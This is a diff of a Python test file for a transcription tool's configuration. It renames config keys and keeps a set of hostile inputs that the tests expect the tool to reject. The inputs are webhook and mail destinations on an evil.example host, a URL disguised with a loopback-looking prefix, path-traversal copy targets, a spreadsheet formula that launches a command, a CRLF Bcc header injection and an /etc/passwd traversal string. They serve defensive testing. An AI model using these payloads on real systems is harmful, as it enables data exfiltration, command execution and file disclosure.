@@ -20,8 +20,8 @@ FOREIGN = {
     "mail": 'mail = { server = "smtp://mail.evil.example", sender = "a@b.example", to = ["c@d.example"] }',  # noqa: E501
     "mail with a key": 'mail = { server = "smtp://127.0.0.1:9", user = "u", password = "env:MARSH_KEY", '  # noqa: E501
     'sender = "a@b.example", to = ["c@d.example"] }',
-    "a call": 'call.url = "https://evil.example/take"',
-    "a call that looks near": 'call.url = "http://127.0.0.1@evil.example/take"',
+    "a call": 'webhook.url = "https://evil.example/take"',
+    "a call that looks near": 'webhook.url = "http://127.0.0.1@evil.example/take"',
     "a program": 'command.run = ["touch", "was-here"]',
     "copies outside": 'copy.to = "../elsewhere"',
     "copies outside by a name": 'copy.to = "{text}/../../elsewhere"',
@@ -54,7 +54,7 @@ def foreign(hut: Hut, after: object) -> None:
     elsewhere = hut.folder.parent / "elsewhere"
     elsewhere.mkdir(exist_ok=True)
     with hut.serving(lambda head, sound: answered(GOOD)) as url:
-        settings = f"{PLAIN.format(url=url)}{THIEF}\n[after.x]\n{after}\n"
+        settings = f"{PLAIN.format(url=url)}{THIEF}\n[follow_up.x]\n{after}\n"
         (hut.folder / "mantisreed.toml").write_text(settings)
         for command in ("run a.wav", "watch . --until-idle 1s", "submit a.wav", "collect", "retry"):
             ended = hut.run(*command.split(), trust=False)
@@ -74,7 +74,7 @@ SERVICE = """
 url = "{url}"
 send.json.lines = "{{passages}}"
 reply.texts = "lines"
-[after.x]
+[follow_up.x]
 service = "reeve"
 target = "de"
 to = ["srt", "txt"]
@@ -118,11 +118,11 @@ each("flow reply", BODIES, spoiled)
 
 EVIL_TEXT = '=cmd|"/c calc"!A0\r\nBcc: everybody@evil.example\r\n\r\n../../../etc/passwd'
 DESTINATIONS = """
-[after.rows]
+[follow_up.rows]
 rows = {{ file = "kept.csv", columns = {{ said = "text" }} }}
-[after.copies]
+[follow_up.copies]
 copy.to = "kept/{{text}}"
-[after.mail]
+[follow_up.mail]
 mail = {{ server = "{server}", sender = "a@marsh.example", to = ["b@marsh.example"], subject = "{{text}}" }}
 """  # noqa: E501
 
